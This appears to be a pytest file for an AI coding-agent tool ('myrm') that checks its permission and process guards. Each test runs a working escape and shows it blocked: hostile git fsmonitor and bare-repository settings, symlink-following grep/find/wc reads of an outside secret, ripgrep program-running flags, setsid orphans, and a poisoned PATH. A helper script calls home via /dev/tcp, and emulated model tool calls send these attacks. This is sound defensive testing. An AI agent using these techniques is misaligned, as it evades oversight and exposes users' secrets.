"""Four ways around the permission and process guards (issue 34), each shown working when run unchecked
and refused (or reaped) by myrm: git config beside `.git/config`, link-following walks, `setsid` escaping
the reaper, and ripgrep flags that run programs. Plus settings out of sane bounds."""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from myrm_tui.agent.permissions import Assessment, CommandRules, git_config_files, git_hardening_env
from myrm_tui.agent.proc import children_of
from myrm_tui.agent.tools import ToolContext
from myrm_tui.agent.tools.base import Approval
from myrm_tui.agent.tools.files import FileEditTool
from myrm_tui.agent.tools.shell import BashTool
from myrm_tui.config import ConfigError, resolve
from myrm_tui.context.vault import ArtifactVault
from myrm_tui.testing.emulator import ProviderEmulator, Reply
from tests import warm
from tests.agent.tools.test_tool_hardening import _group_alive, _wait_until, start_agent_child, start_child
from tests.helpers import run_myrm

RG = shutil.which("rg") or str(Path(sys.executable).parent / "rg")
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")


def _allowed(command: str, workspace: Path) -> bool:
    return CommandRules().assess(command, workspace.resolve()).allowed


def _git(workspace: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(workspace.parent)}
    return subprocess.run(["git", *args], cwd=workspace, env=env, capture_output=True, text=True, timeout=30)


def _marker_program(workspace: Path, marker: Path) -> Path:
    prog = workspace / "tools" / "hook.sh"
    prog.parent.mkdir(exist_ok=True)
    prog.write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    prog.chmod(0o755)
    return prog


# --- 1. git config beside .git/config -------------------------------------------------------------------


@needs_git
def test_fsmonitor_in_config_worktree_runs_a_program_and_git_status_then_asks(
    workspace: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    _git(workspace, "init", "-q")
    prog = _marker_program(workspace, marker)
    assert _allowed("git status", workspace)  # a clean repository: read-only git runs unasked
    with (workspace / ".git" / "config").open("a") as f:
        f.write("[extensions]\n\tworktreeConfig = true\n")
    (workspace / ".git" / "config.worktree").write_text(f"[core]\n\tfsmonitor = {prog}\n")
    assert not _allowed("git status", workspace)
    assert not _allowed("git log", workspace)
    # the attack is real: run unchecked, `git status` runs the program
    _git(workspace, "status")
    assert marker.exists()


@needs_git
def test_an_included_file_or_a_linked_worktree_is_read_too(workspace: Path, tmp_path: Path) -> None:
    main_repo = tmp_path / "main-repo"
    main_repo.mkdir()
    _git(main_repo, "init", "-q")
    _git(main_repo, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "x")
    linked = tmp_path / "linked"
    _git(main_repo, "worktree", "add", "-q", str(linked))
    assert (linked / ".git").is_file()  # `gitdir: …` pointer
    assert _allowed("git status", linked)
    files = git_config_files(linked.resolve())
    assert (main_repo / ".git" / "config").resolve() in files  # the common dir's config
    with (main_repo / ".git" / "config").open("a") as f:
        f.write("[core]\n\tpager = less\n")
    assert not _allowed("git status", linked)


def test_git_reads_the_users_config_when_the_workspace_is_home(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("HOME", str(workspace))
    (workspace / ".gitconfig").write_text("[core]\n\tfsmonitor = ./x\n")
    assert not _allowed("git status", workspace)
    monkeypatch.setenv("HOME", str(tmp_path / "elsewhere"))  # the user's own file, outside: trusted
    assert _allowed("git status", workspace)


def test_git_dir_from_the_environment_is_not_read_only(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert _allowed("git status", workspace)
    monkeypatch.setenv("GIT_DIR", str(workspace / "elsewhere"))
    assert not _allowed("git status", workspace)


@needs_git
@pytest.mark.parametrize("target", [".git/config", ".git/config.worktree", ".git/hooks/pre-commit"])
async def test_an_edit_under_git_asks_first_even_where_edits_are_allowed(
    target: str, workspace: Path
) -> None:
    _git(workspace, "init", "-q")
    full = workspace / target
    full.parent.mkdir(parents=True, exist_ok=True)
    before = full.read_text() if full.exists() else None
    asked: list[Assessment] = []

    async def approver(tool: str, shown: str, assessment: Assessment) -> Approval:
        asked.append(assessment)
        return "always"  # "always" for edits must not cover the next edit under .git

    # an allow rule for edits: edits elsewhere run unasked, edits under .git still ask
    rules = CommandRules(["file_edit_tool"])
    ctx = ToolContext(
        workspace=workspace, vault=ArtifactVault("s"), approver=approver, allowed_commands=rules
    )
    await FileEditTool().run({"path": "notes.txt", "new_string": "x", "create": True}, ctx)
    assert asked == []
    args: dict[str, object] = {"path": target, "new_string": "[core]\n\tfsmonitor = ./x\n", "create": True}
    if before is not None:
        args = {"path": target, "old_string": before.splitlines(keepends=True)[0], "new_string": "[x]\n"}
    await FileEditTool().run(args, ctx)
    assert [a.command for a in asked] == [f"edit {target}"]
    assert "git" in asked[0].problems[0]
    # declined: nothing written; with nobody to ask (`myrm ask` without --yes): declined too
    for answer_ctx in (
        ToolContext(workspace=workspace, vault=ArtifactVault("s"), approver=_no, allowed_commands=rules),
        ToolContext(workspace=workspace, vault=ArtifactVault("s"), allowed_commands=rules),
    ):
        now = full.read_text()
        res = await FileEditTool().run(
            {"path": target, "old_string": now[:3], "new_string": "zz"}, answer_ctx
        )
        assert res.is_error and res.meta.get("declined") and full.read_text() == now
    # approval = "auto" runs everything, so it does not ask
    auto = ToolContext(workspace=workspace, vault=ArtifactVault("s"), approver=approver, auto_approve=True)
    asked.clear()
    await FileEditTool().run({"path": ".git/info/x", "new_string": "x", "create": True}, auto)
    assert asked == []


async def _no(tool: str, shown: str, assessment: Assessment) -> Approval:
    return "no"


# --- 2. link-following walks ------------------------------------------------------------------------------


@pytest.fixture
def linked_out(workspace: Path, tmp_path: Path) -> Path:
    """``workspace/dirlink`` points at a folder outside holding a secret."""
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / "secret.txt").write_text("SECRET=hunter2\n")
    (workspace / "dirlink").symlink_to(outside, target_is_directory=True)
    (workspace / "code.txt").write_text("nothing here\n")
    return outside


WALKS = [
    "grep -R SECRET .",
    "grep -Rn SECRET .",
    "grep --dereference-recursive SECRET .",
    "find -L . -name secret.txt",
    "find . -follow -name secret.txt",
    "ls -LR",
    "ls -lLR .",
    f"{RG} -L SECRET",
    f"{RG} --follow SECRET",
]


@pytest.mark.parametrize("command", WALKS)
def test_a_walk_that_follows_links_asks_and_would_read_outside(
    command: str, workspace: Path, linked_out: Path
) -> None:
    tokens = command.replace(RG, "rg")
    assert not _allowed(tokens, workspace)
    # the attack is real: run unchecked, the walk reaches the secret outside the workspace
    out = subprocess.run(["bash", "-c", command], cwd=workspace, capture_output=True, text=True, timeout=30)
    assert "secret.txt" in out.stdout or "hunter2" in out.stdout


@pytest.mark.parametrize(
    "command", ["grep -r SECRET .", "grep -rn SECRET .", "find . -name secret.txt", "ls -lR", "rg SECRET"]
)
def test_walks_that_do_not_follow_links_stay_read_only_and_inside(
    command: str, workspace: Path, linked_out: Path
) -> None:
    assert _allowed(command, workspace)
    real = command.replace("rg ", f"{RG} ", 1) if command.startswith("rg ") else command
    out = subprocess.run(["bash", "-c", real], cwd=workspace, capture_output=True, text=True, timeout=30)
    assert "hunter2" not in out.stdout and "secret.txt" not in out.stdout


def test_wc_reading_names_from_a_file_asks(workspace: Path, linked_out: Path) -> None:
    (workspace / "names").write_text(str(linked_out / "secret.txt") + "\0")
    assert not _allowed("wc --files0-from=names", workspace)
    assert not _allowed("find -files0-from names", workspace)
    assert _allowed("wc -l code.txt", workspace)


# --- 3. ripgrep flags are allow-listed ---------------------------------------------------------------------


def test_rg_hostname_bin_runs_a_program_and_asks(workspace: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    _marker_program(workspace, marker)
    (workspace / "code.txt").write_text("needle\n")
    for flags in ("--hostname-bin=tools/hook.sh", "--hostname-bin tools/hook.sh"):
        assert not _allowed(f"rg {flags} needle", workspace)
    # the attack is real: ripgrep runs the program (for hyperlinks' host name) on a plain search
    subprocess.run(
        [RG, "--hostname-bin=tools/hook.sh", "needle"], cwd=workspace, capture_output=True, timeout=30
    )
    assert marker.exists()


@pytest.mark.parametrize(
    "command",
    [
        "rg --pre tools/hook.sh needle",
        "rg --pre=tools/hook.sh needle",
        "rg --pre-glob '*.txt' --pre tools/hook.sh needle",
        "rg -z needle",
        "rg --search-zip needle",
        "rg -iz needle",
        "rg --hyperlink-format=default needle",
        "rg --some-future-flag needle",
        "rg -Y needle",
    ],
)
def test_rg_flags_outside_the_allow_list_ask(command: str, workspace: Path) -> None:
    assert not _allowed(command, workspace)


@pytest.mark.parametrize(
    "command",
    [
        "rg needle",
        "rg -n -i needle .",
        "rg -inw needle",
        "rg -A3 -B 2 -g '*.py' needle",
        "rg -e needle -tpy",
        "rg --type py --max-count 3 needle",
        "rg --files",
        "rg -l --hidden needle",
        "rg -- -z",
    ],
)
def test_everyday_rg_stays_read_only(command: str, workspace: Path) -> None:
    assert _allowed(command, workspace)


def test_a_ripgrep_config_inside_the_workspace_is_not_trusted(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (workspace / ".rgrc").write_text("--pre=tools/hook.sh\n")
    monkeypatch.setenv("RIPGREP_CONFIG_PATH", str(workspace / ".rgrc"))
    assert not _allowed("rg needle", workspace)
    monkeypatch.setenv("RIPGREP_CONFIG_PATH", str(tmp_path / "user.rgrc"))
    assert _allowed("rg needle", workspace)


# --- 4. setsid escapes the process group: the reaper still ends it ---------------------------------------


def _stat(pid: int) -> list[str]:
    """The fields of ``/proc/PID/stat`` after the command name (state first), or [] when it is gone."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except (OSError, IndexError):
        return []


def _session(pid: int) -> int | None:
    fields = _stat(pid)
    return int(fields[3]) if fields else None


def _alive(pid: int) -> bool:
    fields = _stat(pid)
    return bool(fields) and fields[0] != "Z"


def _end(child: warm.Process, escaped: int) -> None:
    """After a kill -9 test, pass or fail: no myrm and no escaped process is left running."""
    if child.poll() is None:
        child.kill()
    if escaped and _alive(escaped):
        os.kill(escaped, 9)


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
async def test_kill_9_of_myrm_ends_a_process_that_left_its_group_with_setsid(
    emulator: ProviderEmulator, workspace: Path, tmp_path: Path
) -> None:
    emulator.enqueue(
        # setsid: a new session and group, and bash exits at once: the sleep is an orphan. env -i: without
        # the owner mark in its environment, only the subreaper's adoption finds it.
        Reply(
            tool_calls=[
                (
                    "bash",
                    {
                        "command": 'setsid env -i "$(command -v sleep)" 300 > /dev/null 2>&1 < /dev/null & '
                        "echo $! > s.pid"
                    },
                )
            ]
        ),
        Reply(tool_calls=[("bash", {"command": "echo $$ > fg.pid; sleep 300; echo never", "timeout": 600})]),
        Reply(text="done"),
    )
    # Without a pid cgroup (limit_processes = 0, as on a machine that has none to give) the watcher is what
    # ends it; with one, its command's end does (test_limits.py).
    child = start_agent_child(tmp_path / "kill9" / "myrm.db", workspace, emulator, limit_processes=0)
    escaped = 0
    try:
        spid, fpid = workspace / "s.pid", workspace / "fg.pid"
        ready = await _wait_until(lambda: all(p.exists() and p.read_text().strip() for p in (spid, fpid)), 60)
        assert ready, "the tool commands never started"
        escaped, group = int(spid.read_text()), int(fpid.read_text())
        assert _alive(escaped) and Path(f"/proc/{escaped}/stat").read_text().rsplit(")", 1)[1].split()[
            3
        ] == str(escaped)  # it leads a session of its own: killing the tool's group cannot reach it
        # myrm is its subreaper: the orphan is myrm's child, not init's
        assert await _wait_until(lambda: escaped in {p for p, _ in children_of(child.pid)}, 30)
        child.kill()
        child.wait(10)
        assert await _wait_until(lambda: not _group_alive(group), 30)
        assert await _wait_until(lambda: not _alive(escaped), 30), "the setsid process survived myrm"
    finally:
        _end(child, escaped)
        if (workspace / "fg.pid").exists() and (workspace / "fg.pid").read_text().strip():
            with contextlib.suppress(ProcessLookupError):
                os.killpg(int((workspace / "fg.pid").read_text()), 9)


# A tool that leaves its group while this process is no subreaper (prctl refused, as in some containers):
# the orphan is nobody's child that the watcher looks at, and no group it knows holds it.
NO_SUBREAPER_CHILD = """
import asyncio, os, subprocess, sys
from pathlib import Path
from myrm_tui.agent import proc

async def main() -> None:
    proc.REAPER.subreaper = True  # taken as done: prctl is never called, orphans go to init
    ws = Path(sys.argv[1])
    p = await proc.spawn(
        "bash", "-c", "setsid sleep 300 > /dev/null 2>&1 < /dev/null & echo $! > escaped.pid",
        cwd=ws, env=dict(os.environ), stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    await p.wait()
    (ws / "ready").write_text("1")
    await asyncio.sleep(300)

asyncio.run(main())
"""


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
async def test_kill_9_ends_what_a_tool_started_even_where_nothing_registered_it(tmp_path: Path) -> None:
    """The watcher knows a tool's processes by the owner mark in their environment, not only by the
    groups myrm registered and the orphans it adopted: a kill -9 that lands before a registration, or
    a ``setsid`` orphan where myrm cannot be a subreaper, still ends them."""
    child = start_child(NO_SUBREAPER_CHILD, str(tmp_path))
    escaped = 0
    try:
        assert await _wait_until(lambda: (tmp_path / "ready").exists(), 60), "the tool never ran"
        escaped = int((tmp_path / "escaped.pid").read_text())
        assert _alive(escaped)
        assert escaped not in {p for p, _ in children_of(child.pid)}  # no adoption can find it
        child.kill()
        child.wait(10)
        assert await _wait_until(lambda: not _alive(escaped), 30), "the setsid process survived myrm"
    finally:
        _end(child, escaped)


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
def test_without_the_reaper_a_setsid_process_outlives_its_parent(tmp_path: Path) -> None:
    """The attack is real: a parent killed with -9 leaves a `setsid` grandchild running under init."""
    pidfile = tmp_path / "s.pid"
    parent = subprocess.Popen(
        ["bash", "-c", f"setsid sleep 300 > /dev/null 2>&1 < /dev/null & echo $! > {pidfile}; sleep 300"],
        start_new_session=True,
    )
    try:
        asyncio.run(_wait_until(lambda: pidfile.exists() and pidfile.read_text().strip() != "", 30))
        escaped = int(pidfile.read_text())
        # killed before setsid() ran, it would still be in the group: wait until it leads its own session
        assert asyncio.run(_wait_until(lambda: _session(escaped) == escaped, 30))
        os.killpg(parent.pid, 9)
        parent.wait(10)
        assert _alive(escaped)
    finally:
        if pidfile.exists() and pidfile.read_text().strip():
            with contextlib.suppress(ProcessLookupError):
                os.kill(int(pidfile.read_text()), 9)


# --- settings out of sane bounds -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("context_window", 99_999_999_999),
        ("max_output_tokens", 10**12),
        ("bash_timeout", 1e300),
        ("max_steps", 10**9),
        ("thinking_budget_tokens", 10**12),
    ],
)
def test_a_setting_beyond_sane_bounds_is_one_clear_line(key: str, value: object) -> None:
    with pytest.raises(ConfigError) as err:
        resolve({key: value}, {}, {}, env={})
    line = str(err.value)
    assert "\n" not in line and key in line and "expected" in line
    assert " to " in line or "<=" in line  # it names the bound


# --- issue 44: git runs a program, unasked, from files the workspace holds ----------------------------------


@pytest.fixture
def phone_home(tmp_path: Path) -> Iterator[tuple[Path, socket.socket]]:
    """A marker outside the workspace and a loopback listener: what a hostile git setting would write and
    reach (a connection waits in the listener's backlog until accepted: nothing is missed)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    yield tmp_path / "PWN", server
    server.close()


def _hostile(workspace: Path, phone: tuple[Path, socket.socket]) -> str:
    """A program that writes the marker (and PWN in its folder) and connects to the listener."""
    marker, server = phone
    prog = workspace / "tools" / "fsmonitor.sh"
    prog.parent.mkdir(exist_ok=True)
    prog.write_text(
        f"#!/bin/bash\ntouch {marker} PWN\n(exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]})\n"
    )
    prog.chmod(0o755)
    return str(prog)


def _reached(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
        return True
    except BlockingIOError:
        return False


def _bare_layout(folder: Path, fsmonitor: str) -> dict[str, str]:
    """A repository's files at the root of ``folder`` (no ``.git``) whose work tree is the folder itself."""
    return {
        "HEAD": "ref: refs/heads/main\n",
        "config": f'[core]\n\trepositoryformatversion = 0\n\tworktree = .\n\tfsmonitor = "{fsmonitor}"\n',
        "objects/info/packs": "\n",
        "refs/heads/README": "refs\n",
    }


async def _git_status_unasked(workspace: Path, mode: str) -> str:
    """``git status`` through the shell tool, which must run it without asking."""

    async def never(tool: str, shown: str, assessment: Assessment) -> Approval:
        raise AssertionError(f"asked: {shown}")

    assert _allowed("git status", workspace)  # the permission rules let it run unasked: not the boundary
    ctx = ToolContext(workspace=workspace, vault=ArtifactVault("s"), approver=never, sandbox=mode)
    return (await BashTool().run({"command": "git status"}, ctx)).content


MODES = ["read-only-auto", "off"]  # "off": the git settings alone hold; with the sandbox, both


@needs_git
@pytest.mark.parametrize("mode", MODES)
async def test_a_workspace_laid_out_as_a_bare_repository_runs_nothing(
    mode: str, workspace: Path, phone_home: tuple[Path, socket.socket]
) -> None:
    hook = _hostile(workspace, phone_home)
    for name, text in _bare_layout(workspace, hook).items():
        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
        (workspace / name).write_text(text)
    shown = await _git_status_unasked(workspace, mode)
    assert "cannot use bare repository" in shown  # git ran, and refused the layout nobody named
    assert not phone_home[0].exists() and not (workspace / "PWN").exists()
    assert not _reached(phone_home[1])
    # the attack is real: plain `git status` there runs the program
    _git(workspace, "status")
    assert phone_home[0].exists() and _reached(phone_home[1])


@needs_git
@pytest.mark.parametrize("mode", MODES)
async def test_a_nested_repository_with_fsmonitor_runs_nothing(
    mode: str, workspace: Path, phone_home: tuple[Path, socket.socket]
) -> None:
    _hostile(workspace, phone_home)
    (workspace / "tools").rename(workspace.parent / "tools")  # outside: named by sub's config only
    hook = str(workspace.parent / "tools" / "fsmonitor.sh")
    sub = workspace / "sub"
    sub.mkdir()
    ident = ("-c", "user.email=a@b", "-c", "user.name=a")
    _git(sub, "init", "-q")
    (sub / "a.txt").write_text("a\n")
    _git(sub, "add", "a.txt")
    _git(sub, *ident, "commit", "-qm", "a")
    _git(workspace, "init", "-q")
    _git(workspace, "add", "hello.py", "sub")  # sub becomes a gitlink: status looks inside it
    _git(workspace, *ident, "commit", "-qm", "top")
    with (sub / ".git" / "config").open("a") as f:
        f.write(f'[core]\n\tfsmonitor = "{hook}"\n')
    (sub / "a.txt").write_text("changed\n")
    shown = await _git_status_unasked(workspace, mode)
    assert "<returncode>0</returncode>" in shown and "On branch" in shown  # a working status, sub unentered
    assert not phone_home[0].exists() and not (sub / "PWN").exists()
    assert not _reached(phone_home[1])
    _git(workspace, "status")  # the attack is real: status recurses into sub and runs its fsmonitor
    assert phone_home[0].exists() and _reached(phone_home[1])


@needs_git
@pytest.mark.parametrize("mode", MODES)
async def test_the_model_writing_a_bare_layout_with_edits_runs_nothing(
    mode: str, workspace: Path, phone_home: tuple[Path, socket.socket]
) -> None:
    """With edits allowed (``allowed_commands = ["file_edit_tool"]``) the model writes the layout itself,
    four edits none of which asks, then sends ``git status``."""
    hook = _hostile(workspace, phone_home)

    async def never(tool: str, shown: str, assessment: Assessment) -> Approval:
        raise AssertionError(f"asked: {shown}")

    ctx = ToolContext(
        workspace=workspace,
        vault=ArtifactVault("s"),
        approver=never,
        allowed_commands=CommandRules(["file_edit_tool"]),
        sandbox=mode,
    )
    for name, text in _bare_layout(workspace, hook).items():
        res = await FileEditTool().run({"path": name, "new_string": text, "create": True}, ctx)
        assert not res.is_error, res.content
    shown = await _git_status_unasked(workspace, mode)
    assert "cannot use bare repository" in shown
    assert not phone_home[0].exists() and not (workspace / "PWN").exists()
    assert not _reached(phone_home[1])


@needs_git
def test_read_only_git_gets_every_program_setting_made_inert(workspace: Path) -> None:
    _git(workspace, "init", "-q")
    with (workspace / ".git" / "config").open("a") as f:
        f.write('[diff "evil"]\n\ttextconv = x\n[filter "lfs2"]\n\tclean = y\n')
    env = git_hardening_env(workspace)
    pairs = {
        env[f"GIT_CONFIG_KEY_{i}"]: env[f"GIT_CONFIG_VALUE_{i}"] for i in range(int(env["GIT_CONFIG_COUNT"]))
    }
    assert pairs["safe.bareRepository"] == "explicit" and pairs["core.fsmonitor"] == "false"
    assert pairs["core.hooksPath"] == "/dev/null" and pairs["diff.external"] == ""
    assert pairs["core.sshCommand"] == "false" and pairs["core.pager"] == "cat"
    assert pairs["diff.evil.textconv"] == "" and pairs["filter.lfs2.clean"] == ""
    assert pairs["filter.lfs2.process"] == "" and env["GIT_OPTIONAL_LOCKS"] == "0"


# --- issue 44: long options by prefix, attached values --------------------------------------------------


def test_grep_der_reads_home_through_a_link_and_asks(workspace: Path, linked_out: Path) -> None:
    for command in ("grep --der SECRET .", "grep --deref SECRET .", "grep -rn --dereference-r=x SECRET ."):
        assert not _allowed(command, workspace), command
    out = subprocess.run(
        ["grep", "--der", "SECRET", "."], cwd=workspace, capture_output=True, text=True, timeout=30
    )
    assert "hunter2" in out.stdout  # the attack is real: GNU grep takes the prefix


def test_an_attached_pattern_file_outside_asks(workspace: Path, linked_out: Path) -> None:
    (workspace / "LINK").symlink_to(linked_out / "secret.txt")
    (workspace / "code.txt").write_text("xx SECRET=hunter2 yy\n")
    for command in ("grep -o -fLINK code.txt", "grep -ofLINK code.txt", "grep --fi=LINK code.txt"):
        assert not _allowed(command, workspace), command
    assert _allowed("grep -o -fcode.txt code.txt", workspace)
    out = subprocess.run(
        ["grep", "-o", "-fLINK", "code.txt"], cwd=workspace, capture_output=True, text=True, timeout=30
    )
    assert out.stdout.strip() == "SECRET=hunter2"  # the attack is real: the patterns came from outside


def test_wc_files0_by_prefix_asks(workspace: Path, linked_out: Path) -> None:
    (workspace / "LIST").write_text(str(linked_out / "secret.txt") + "\0")
    for command in ("wc --files0=LIST", "wc --files0-f LIST", "wc -l --f=LIST"):
        assert not _allowed(command, workspace), command
    out = subprocess.run(["wc", "--files0=LIST"], cwd=workspace, capture_output=True, text=True, timeout=30)
    assert "secret.txt" in out.stdout  # the attack is real


@pytest.mark.parametrize(
    "command",
    ["git diff --ext", "git log --textc", "git show --ext-d HEAD", "git diff --out=x", "git log --outp x"],
)
def test_git_writers_by_prefix_ask(command: str, workspace: Path) -> None:
    assert _allowed("git diff", workspace)
    assert not _allowed(command, workspace)


@needs_git
def test_myrm_ask_runs_the_models_attacks_confined_or_not_at_all(
    emulator: ProviderEmulator,
    tmp_path: Path,
    workspace: Path,
    linked_out: Path,
    phone_home: tuple[Path, socket.socket],
) -> None:
    """The issue's attacks as the model sends them to `myrm ask` (no --yes): `git status` in a bare
    layout and `cat` through a poisoned PATH run unasked, confined, and do nothing; the prefixed options
    are declined."""
    marker, server = phone_home
    hook = _hostile(workspace, phone_home)
    for name, text in _bare_layout(workspace, hook).items():
        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
        (workspace / name).write_text(text)
    shims = tmp_path / "shims"
    shims.mkdir()
    (shims / "cat").write_text(f"#!/bin/bash\nexec {hook}\n")  # a poisoned PATH: `cat` runs the program
    (shims / "cat").chmod(0o755)
    (workspace / "LIST").write_text(str(linked_out / "secret.txt") + "\0")
    calls = [
        "git status",
        "cat code.txt",
        "grep --der SECRET .",
        "wc --files0=LIST",
        "grep -o -fdirlink/secret.txt .",
    ]
    emulator.enqueue(Reply(tool_calls=[("bash", {"command": c}) for c in calls]), Reply(text="Done."))
    env = {
        **os.environ,
        "MYRM_DB": str(tmp_path / "ask.db"),
        "MYRM_CONFIG": str(tmp_path / "none.toml"),
        "OPENAI_API_KEY": "sk-test",
        "PATH": f"{shims}{os.pathsep}{os.environ['PATH']}",
    }
    args = ["ask", "--model", "openai/gpt-4o-mini", "--api-base", emulator.openai_base, "--workspace"]
    proc = run_myrm([*args, str(workspace), "go"], env=env, cwd=workspace)
    assert proc.returncode == 0 and proc.stdout.strip() == "Done.", proc.stderr
    assert proc.stderr.count("[declined, non-interactive:") == 3, proc.stderr  # the three prefixed options
    assert proc.stderr.count("[tool done] exit") == 2, proc.stderr  # git status and cat ran unasked
    assert "cannot use bare repository" in proc.stderr and "cannot touch" in proc.stderr  # confined
    assert not marker.exists() and not (workspace / "PWN").exists() and not _reached(server)
    # the setting reaches the tool: with sandbox = "off" the same `cat` runs the program in full
    emulator.enqueue(Reply(tool_calls=[("bash", {"command": "cat code.txt"})]), Reply(text="Done."))
    proc = run_myrm([*args, str(workspace), "go"], env={**env, "MYRM_SANDBOX": "off"}, cwd=workspace)
    assert proc.returncode == 0 and marker.exists() and _reached(server), proc.stderr
